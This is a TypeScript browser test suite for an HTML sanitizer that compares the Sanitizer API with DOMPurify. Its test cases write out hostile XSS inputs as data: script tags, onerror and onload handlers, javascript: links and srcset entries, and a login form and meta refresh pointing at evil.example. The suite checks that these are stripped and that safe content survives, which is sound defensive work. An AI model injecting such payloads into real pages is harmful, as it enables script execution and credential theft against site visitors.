import { expect } from '@open-wc/testing';
import { preferredEngine, sanitizeHtml, type SanitizerEngine } from './sanitize.js';
import { nextTask } from '../../test/helpers.js';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const base = 'https://news.example/articles/story.html';
const hasSanitizerApi = 'setHTML' in Element.prototype;
/** Both engines wherever the browser has the Sanitizer API (Chromium does); DOMPurify alone elsewhere. */
const engines: SanitizerEngine[] = hasSanitizerApi ? ['sanitizer-api', 'dompurify'] : ['dompurify'];

async function clean(html: string, engine: SanitizerEngine): Promise<string> {
  const container = document.createElement('div');
  container.append(await sanitizeHtml(html, base, engine));
  return container.innerHTML;
}

/** Hostile input and the one safe output both engines must give for it. */
const cases: [name: string, html: string, safe: string][] = [
  ['<script>', '<p>Before</p><script>window.__pwned = "script"</script><p>After</p>', '<p>Before</p><p>After</p>'],
  [
    '<img onerror>',
    '<img src=x onerror="window.__pwned = \'img\'">',
    '<img src="https://news.example/articles/x" loading="lazy" decoding="async">',
  ],
  [
    'javascript: link',
    '<a href="javascript:window.__pwned = \'link\'">click</a> <a href=" JaVaScRiPt:alert(1)">two</a>',
    '<a>click</a> <a>two</a>',
  ],
  ['<iframe>', '<iframe src="javascript:window.__pwned = \'iframe\'"></iframe><iframe srcdoc="<b>x</b>"></iframe><p>ok</p>', '<p>ok</p>'],
  ['<style>', '<style>p { display: none }</style><p>shown</p>', '<p>shown</p>'],
  ['<svg onload>', '<svg onload="window.__pwned = \'svg\'"><circle r="1"></circle></svg><p>ok</p>', '<p>ok</p>'],
  [
    '<form>',
    '<form action="https://evil.example/steal"><p>Log in</p><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
    '',
  ],
  [
    'inline style and handlers',
    '<p style="position:fixed;inset:0" onclick="window.__pwned = \'click\'" onmouseover="alert(1)">text</p>',
    '<p>text</p>',
  ],
  ['<math> and <template>', '<math><mi>x</mi></math><template><script>alert(1)</script></template><p>ok</p>', '<p>ok</p>'],
  ['<object> and <embed>', '<object data="x.swf">fallback</object><embed src="x.swf"><p>ok</p>', '<p>ok</p>'],
  ['<meta> and <base>', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>ok</p>', '<p>ok</p>'],
  [
    'CMS wrappers are unwrapped, not dropped',
    '<article><header><h2>Title</h2></header><main><p><font color="red">kept</font> text</p></main><center>centred</center></article>',
    '<h2>Title</h2><p>kept text</p>centred',
  ],
  ['comments and data attributes', '<!-- note --><p data-track="1" id="x" class="y">ok</p>', '<p>ok</p>'],
  [
    'srcset with a javascript: candidate',
    '<img srcset="a.png 1x, javascript:alert(1) 2x" src="data:image/png;base64,AAAA" alt="A">',
    '<img srcset="https://news.example/articles/a.png 1x" alt="A" loading="lazy" decoding="async">',
  ],
];

/** Content a publisher sends on purpose: it all survives, links and images follow the rules. */
const safeContent = `<h2>Heading</h2><p>Text with <strong>bold</strong>, <em>emphasis</em> and <a href="/more">a link</a>.</p>
<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>
<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>
<figure><img src="media/a.svg" alt="An illustration" width="10" height="5"><figcaption>Caption</figcaption></figure>
<blockquote cite="https://source.example/q"><p>Quote</p></blockquote><p><a href="#notes">Notes</a></p>`;

describe('data/sanitize', () => {
  afterEach(() => {
    delete window.__pwned;
  });

  it('prefers the Sanitizer API where the browser has it', function () {
    if (!hasSanitizerApi) this.skip();
    expect(preferredEngine()).to.equal('sanitizer-api');
  });

  for (const [name, html, safe] of cases) {
    it(`removes ${name} the same way with both engines`, async () => {
      const outputs = await Promise.all(engines.map((engine) => clean(html, engine)));
      expect(outputs).to.deep.equal(engines.map(() => safe));
    });
  }

  for (const engine of engines) {
    it(`keeps safe content with ${engine}`, async () => {
      const container = document.createElement('div');
      container.append(await sanitizeHtml(safeContent, base, engine));
      expect(container.querySelector('h2')!.textContent).to.equal('Heading');
      expect(container.querySelectorAll('ul li, ol li')).to.have.length(3);
      expect(container.querySelector('ol')!.getAttribute('start')).to.equal('3');
      expect(container.querySelector('th')!.getAttribute('scope')).to.equal('col');
      expect(container.querySelector('td')!.getAttribute('colspan')).to.equal('2');
      expect(container.querySelector('strong')!.textContent).to.equal('bold');

      const [link, fragment] = Array.from(container.querySelectorAll('a'));
      expect(link.getAttribute('href')).to.equal('https://news.example/more');
      expect(link.getAttribute('rel')).to.equal('noopener noreferrer');
      expect(fragment.getAttribute('href')).to.equal('#notes');

      const image = container.querySelector('img')!;
      expect(image.getAttribute('src')).to.equal('https://news.example/articles/media/a.svg');
      expect(image.getAttribute('alt')).to.equal('An illustration');
      expect(image.getAttribute('loading')).to.equal('lazy');
      expect(image.getAttribute('width')).to.equal('10');
      expect(container.querySelector('figcaption')!.textContent).to.equal('Caption');
      expect(container.querySelector('blockquote')!.getAttribute('cite')).to.equal('https://source.example/q');
    });
  }

  it('gives the same output for safe content with both engines', async () => {
    const outputs = await Promise.all(engines.map((engine) => clean(safeContent, engine)));
    expect(new Set(outputs).size).to.equal(1);
  });

  it('returns nodes of this document, which run nothing when inserted', async () => {
    const hostile = cases.map(([, html]) => html).join('');
    for (const engine of engines) {
      const fragment = await sanitizeHtml(hostile, base, engine);
      expect(fragment.ownerDocument).to.equal(document);
      const host = document.createElement('div');
      host.append(fragment);
      document.body.append(host);
      try {
        await nextTask();
        expect(window.__pwned).to.equal(undefined);
        expect(host.querySelectorAll('script, iframe, style, form, svg, math, object, embed, template, meta, base')).to.have.length(0);
        for (const element of host.querySelectorAll('*')) {
          const names = element.getAttributeNames();
          expect(names.filter((attribute) => attribute.startsWith('on') || attribute === 'style')).to.deep.equal([]);
        }
      } finally {
        host.remove();
      }
    }
  });
});
